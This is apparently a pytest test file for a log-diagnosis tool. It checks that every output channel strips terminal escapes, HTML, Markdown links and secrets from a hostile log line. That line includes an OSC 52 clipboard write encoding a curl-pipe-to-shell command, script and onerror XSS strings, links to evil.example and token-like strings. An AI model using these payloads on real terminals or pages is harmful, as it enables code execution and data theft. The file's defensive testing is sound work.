"""Every output channel, fed a hostile log: no secret, no escape sequence, no markup gets out.

One log line carries what an attacker (or an unlucky `print(os.environ)`) puts in a log:
tokens, an OSC 52 clipboard write, window titles, a nested sequence that reappears when
stripped once, 8-bit C1 controls, an OSC 8 hyperlink, HTML and Markdown links, a code fence
and line separators. Each channel is produced by a real dsdiag process and read back with a
strict parser (JSON, CommonMark, HTML).
"""

import html.parser
import json
import re
import subprocess
import sys

import pytest
from markdown_it import MarkdownIt

from classifier.sanitize import strip_controls
from conftest import ROOT, run_dsdiag, run_on_terminal

GITHUB = "ghp_R8mXq2LwZ7vNc4Tb9Yk1Hs6Jd3Pf0Ga5Ue8W"
HF = "hf_Qw8Er3Ty6Ui1Op4As7Df2Gh5Jk9Lz0Xc3Vb"
SECRETS = (GITHUB, HF, "Tr0ub4dor-3x7")
PAYLOAD = ("\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 \x1b\x1b]0;pwned\x07]0;pwned\x07 \x1b[2J\x1bc "
           "\u009b31m \u009d8;;https://evil.example\u009c \x1b]8;;https://evil.example\x1b\\link"
           f"\x1b]8;;\x1b\\ token={GITHUB} HF_TOKEN={HF} --password Tr0ub4dor-3x7 "
           "</code><script>alert(1)</script><img src=x onerror=alert(2)> "
           "[click](https://evil.example) ![t](https://evil.example/t.png) ``` \u2028 \u0085 end")
OOM = ("[rank3]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 3.82 GiB. GPU 3 has "
       "a total capacity of 79.15 GiB of which 1.07 GiB is free. ")
# A site rule that captures free text: captured values reach the facts and the remediation.
SITE_RULE = """\
category: disk_full
remediation: ["Free space for {detail} and retry."]
rules:
  - id: disk_full.site_note
    title: The site's scratch filesystem refused a write
    keywords: ["scratch refused"]
    patterns: ['scratch refused: (?P<detail>.+)']
    examples:
      match: ["scratch refused: a", "x scratch refused: b", "scratch refused: c d"]
      no_match: ["scratch ok", "refused"]
"""
# Controls a terminal acts on. Rich's own colours (ESC [ ... m) are allowed in --color always.
_FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
_OWN_SGR = re.compile(r"\x1b\[[0-9;]*m")


def _hostile_log(tmp_path, name="job.log"):
    log = tmp_path / name
    log.write_bytes(("step 1 loss 2.0\n" + OOM + PAYLOAD + "\n").encode("utf-8"))
    return log


def _site_log(tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir(exist_ok=True)
    (rules / "disk_full.yaml").write_text(SITE_RULE)
    log = tmp_path / "site.log"
    log.write_bytes(("step 1\nscratch refused: " + PAYLOAD + "\n").encode("utf-8"))
    return rules, log


def _assert_clean_text(text, allow_sgr=False):
    if allow_sgr:
        text = _OWN_SGR.sub("", text)
    assert not _FORBIDDEN.search(text.replace("\n", "")), repr(_FORBIDDEN.search(text.replace("\n", "")))
    for secret in SECRETS:
        assert secret[:12] not in text and secret[-12:] not in text


def _strict_json(data: bytes):
    """Parse JSON as a strict reader would: UTF-8 only, no lone surrogates, no NaN."""
    def no_constants(name):
        raise ValueError(f"non-standard constant {name}")
    value = json.loads(data.decode("utf-8", errors="strict"), parse_constant=no_constants)
    json.dumps(value, ensure_ascii=False).encode("utf-8", errors="strict")
    return value


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _assert_clean_json(value):
    for text in _strings(value):
        _assert_clean_text(text)


@pytest.mark.parametrize("sequence,expected", [
    ("a\x1b[31mred\x1b[0m b", "ared b"),
    ("\x1b\x1b]0;t\x07]0;title\x07x", "]0;titlex"),               # nested: one strip reveals another
    ("\x1b[3\x1b[0m1mz", "1mz"),                                  # split: halves around a whole one
    ("\x1b]52;c;Y3VybA==\x07clip", "clip"),                       # OSC 52 clipboard write
    ("\x1b]8;;https://e.x\x1b\\link\x1b]8;;\x1b\\", "link"),      # OSC 8 hyperlink
    ("\u009b31mc1 \u009d0;t\u009c done", "c1  done"),             # 8-bit CSI and OSC
    ("\x1bc\x1b(B\x1b7reset", "reset"),                           # RIS, charset, save cursor
    ("tail \x1b]0;never terminated", "tail "),
    ("bell\x07 nul\x00 del\x7f tab\tkept", "bell nul del tab\tkept"),
])
def test_escape_sequences_are_removed_until_none_remain(sequence, expected):
    assert strip_controls(sequence) == expected


def test_no_control_survives_any_mix_of_escape_fragments():
    import itertools
    pieces = ["\x1b", "[", "]", "0;", "31m", "\x07", "\\", "\u009b", "\u009d", "\u009c", "x", "P", "52;c;"]
    for combo in itertools.product(pieces, repeat=4):
        out = strip_controls("".join(combo))
        assert not _FORBIDDEN.search(out), (combo, out)


def test_json_is_strict_and_clean(tmp_path):
    proc = run_dsdiag("--format", "json", _hostile_log(tmp_path))
    d = _strict_json(proc.stdout)
    assert d["category"] == "gpu_oom" and "[REDACTED:github-token]" in d["evidence"][0]["text"]
    _assert_clean_json(d)


@pytest.mark.parametrize("args", [("--format", "text"), ("--format", "text", "--color", "always")])
def test_text_piped_and_coloured_carries_no_escape_of_the_log(tmp_path, args):
    proc = run_dsdiag(*args, _hostile_log(tmp_path))
    out = proc.stdout.decode("utf-8")
    assert "gpu_oom" in out and "evil.example" in out  # the line is shown, defused
    _assert_clean_text(out, allow_sgr="always" in args)


def test_text_on_a_terminal_carries_no_escape_of_the_log(tmp_path):
    out = run_on_terminal(_hostile_log(tmp_path))
    text = out.decode("utf-8").replace("\r", "")
    assert "gpu_oom" in text
    _assert_clean_text(text, allow_sgr=True)


class _Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(page):
    parser = _Tags()
    parser.feed(page)
    return parser.tags


def test_markdown_gets_no_link_html_or_fence_break(tmp_path):
    rules, site = _site_log(tmp_path)
    for args in (("--format", "markdown", _hostile_log(tmp_path)),
                 ("--format", "markdown", "--rules-dir", rules, site)):
        out = run_dsdiag(*args).stdout.decode("utf-8")
        _assert_clean_text(out)
        rendered = MarkdownIt("commonmark").render(out)
        tags = {tag for tag, _ in _tags(rendered)}
        assert not tags & {"a", "img", "script"}, tags
        assert "evil.example" in rendered and "<script>" not in rendered
        # the evidence stays inside one code block, whatever backticks it holds
        assert rendered.count("<pre>") <= 1
    assert "Free space for" in out and "[REDACTED:github-token]" in out


def test_report_file_and_termination_message_are_clean(tmp_path):
    report, term = tmp_path / "report.txt", tmp_path / "termination-log"
    proc = run_dsdiag("--report", report, f"--k8s-termination-log={term}", _hostile_log(tmp_path))
    assert proc.returncode != 2, proc.stderr
    for path in (report, term):
        text = path.read_bytes().decode("utf-8")
        assert "gpu_oom" in text
        _assert_clean_text(text)


def test_triage_jsonl_and_html_are_clean(tmp_path):
    jobs = tmp_path / "jobs"
    (jobs / "a").mkdir(parents=True)
    (jobs / "b").mkdir()
    _hostile_log(jobs / "a", "rank0.log")
    (jobs / "b" / "rank0.log").write_bytes(b"Traceback (most recent call last):\n  File \"t.py\", "
                                           b"line 1, in <module>\nKeyError: '" + PAYLOAD.encode() + b"'\n")
    page = tmp_path / "report.html"
    proc = run_dsdiag("triage", "--html", page, jobs)
    assert proc.returncode == 0, proc.stderr
    # JSON Lines: one job per line for any line splitter (U+2028 and U+0085 break str.splitlines)
    lines = proc.stdout.decode("utf-8").splitlines()
    assert len(lines) == 2
    for line in lines:
        _assert_clean_json(_strict_json(line.encode()))
    text = page.read_text(encoding="utf-8")
    _assert_clean_text(text)
    tags = _tags(text)
    assert [t for t, _ in tags if t == "script"] == ["script"] * 3  # the page's own three
    assert not [t for t, _ in tags if t in ("img", "iframe", "object", "embed")]
    assert not [(t, a) for t, a in tags for name in a if name.startswith("on")]
    assert not [a for t, a in tags if t == "a" and "evil" in (a.get("href") or "")]
    assert "&lt;script&gt;alert(1)" in text


FAKE_SCONTROL = """#!/bin/sh
# Records each call in its own file, each argument NUL-terminated: boundaries stay visible.
printf '%s\\0' "$@" > "$(mktemp "{calls}/call.XXXXXX")"
case "$1" in
  show) cat "{show}";;
esac
"""
SHOW_JOB = ("JobId=42 JobName=train\n   UserId=alice(1000) JobState=RUNNING Comment=(null)\n"
            "   StdOut={stdout}\n   BatchHost=node1\n")


def test_slurm_comment_is_one_argument_on_one_line_and_the_sidecar_is_clean(tmp_path):
    out = _hostile_log(tmp_path, "slurm-42.out")
    show = tmp_path / "show.txt"
    show.write_text(SHOW_JOB.format(stdout=out))
    calls = tmp_path / "calls"
    calls.mkdir()
    scontrol = tmp_path / "scontrol"
    scontrol.write_text(FAKE_SCONTROL.format(calls=calls, show=show))
    scontrol.chmod(0o755)
    env = {"PYTHONPATH": str(ROOT), "SLURM_JOB_ID": "42", "DSDIAG_SCONTROL": str(scontrol)}
    proc = subprocess.run([sys.executable, "-m", "classifier", "slurm-annotate", "--mode", "both"],
                          capture_output=True, env=env, cwd="/", timeout=60)
    assert proc.returncode == 0, proc.stderr
    records = [p.read_bytes().split(b"\0")[:-1] for p in calls.iterdir()]
    updates = [r for r in records if r[0] == b"update"]
    assert len(updates) == 1 and len(updates[0]) == 3, updates
    verb, job, comment = (part.decode("utf-8") for part in updates[0])
    assert (verb, job) == ("update", "JobId=42") and comment.startswith("Comment=dsdiag: gpu_oom")
    assert "\n" not in comment
    _assert_clean_text(comment)
    sidecar = out.with_name(out.name + ".dsdiag.json")
    _assert_clean_json(_strict_json(sidecar.read_bytes()))


def test_tee_report_is_clean_and_the_log_passes_through_unchanged(tmp_path):
    log = _hostile_log(tmp_path).read_bytes()
    proc = run_dsdiag("--tee", stdin=log)
    assert proc.returncode == 1 and proc.stdout == log  # the job's own log is never changed
    report = proc.stderr.decode("utf-8")
    assert "gpu_oom" in report
    _assert_clean_text(report)
